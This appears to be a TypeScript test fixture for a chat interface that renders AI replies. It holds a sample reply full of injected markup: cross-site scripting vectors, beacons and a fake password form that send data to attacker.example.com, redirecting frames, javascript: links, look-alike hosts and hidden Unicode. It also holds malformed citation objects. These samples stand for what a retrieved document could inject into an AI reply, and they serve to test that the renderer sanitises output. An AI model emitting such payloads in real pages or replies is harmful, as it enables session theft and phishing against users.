import type {CitedResource} from '../types.js';

/** A reply with the attacks that a retrieved document or a question could inject. */
export const hostileText = `# A hostile reply

Everything here would like to leave the chat. Nothing of it should run, load, submit, or look like the page.

## Script

<script>window.attacked = 'script'; alert('script')</script>
<img src="x" onerror="window.attacked = 'onerror'; alert('onerror')">
<svg onload="window.attacked = 'svg'"><animate onbegin="window.attacked = 'animate'" attributeName="x" dur="1s"/></svg>
<details open ontoggle="window.attacked = 'toggle'"><summary>Open me</summary>Details</details>
<math><mtext><table><mglyph><style><img src="x" onerror="window.attacked = 'math'"></style></mglyph></table></mtext></math>

## Beacons

![A harmless picture](https://attacker.example.com/beacon.png?conversation=secret)
<img src="https://attacker.example.com/beacon.gif" width="1" height="1" alt="">
<picture><source srcset="https://attacker.example.com/beacon.webp"><img alt=""></picture>
<video poster="https://attacker.example.com/poster.jpg" autoplay></video>
<link rel="stylesheet" href="https://attacker.example.com/beacon.css">
<div style="background: url('https://attacker.example.com/background.png')">Background</div>

## Phishing

<form action="https://attacker.example.com/login" method="post">
<label>Your session has expired. Password: <input type="password" name="password" autofocus></label>
<button>Sign in</button>
</form>

<dialog open>Please sign in again at attacker.example.com.</dialog>
<div style="position: fixed; inset: 0; z-index: 9999; background: white">The page is covered.</div>

## Frames and styles

<iframe src="https://attacker.example.com/frame"></iframe>
<object data="https://attacker.example.com/object"></object>
<embed src="https://attacker.example.com/embed">
<base href="https://attacker.example.com/">
<meta http-equiv="refresh" content="0; url=https://attacker.example.com/">
<style>* { display: none !important } :host { display: none !important }</style>

## Tags in attributes

<foo bar="<p style='color: red' onclick=alert(1)>">An unknown tag with a known one inside it.</foo>
Inline, too: <unknown title='<b style="color: red">'> and <foo bar="<img src=x onerror=alert(1)>">.

## Links

- [A script in a link](javascript:alert('link'))
- [A script in disguise](JaVaScRiPt&colon;alert('link'))
- [A page of data](data:text/html,<script>alert('data')</script>)
- [https://bank.example.com](https://attacker.example.com/bank)
- [A user name that looks like a host](https://bank.example.com@attacker.example.com/)
- [Sign out of this site](/logout)
- [A host in other letters](https://ехаmple.example.com/)
- <a href="https://attacker.example.com" target="_self" onclick="alert('click')">A link in HTML</a>

## Names

<form id="body" name="cookie"></form>
<img name="getElementById" id="currentScript" alt="">
<p id="__proto__" class="sr-only" role="alert" slot="header" part="composer">Attributes that mean something elsewhere.</p>

## Hidden text

Zero\u200b-width\u200d characters, a \u202eright-to-left override\u202c, and tag characters\u{e0068}\u{e0069}.

This is the last sentence of the hostile reply.
`;

/** Malicious and malformed references, and one valid reference. The types are wrong on purpose. */
export function hostileReferences(origin: string): CitedResource[] {
  const references: unknown[] = [
    {id: 'script', url: "javascript:alert('reference')", title: 'A script', type: 'website'},
    null,
    42,
    'https://attacker.example.com/not-an-object',
    ['https://attacker.example.com/', 'A list'],
    {},
    {id: {}, url: {href: 'https://attacker.example.com/'}, title: ['A title in a list'], type: 7},
    {id: 'relative', url: '/logout', title: 'An address of the page itself', type: 'website'},
    {
      id: 'markup',
      url: 'https://attacker.example.com/',
      title: '<img src=x onerror=alert(1)>',
      type: 'website',
    },
    {id: 'long', url: 'https://example.com/', title: 'A very long title. '.repeat(200), type: 'website'},
    {id: 'good', url: `${origin}/knowledge`, title: 'The one good reference', type: 'website'},
  ];
  return references as CitedResource[];
}
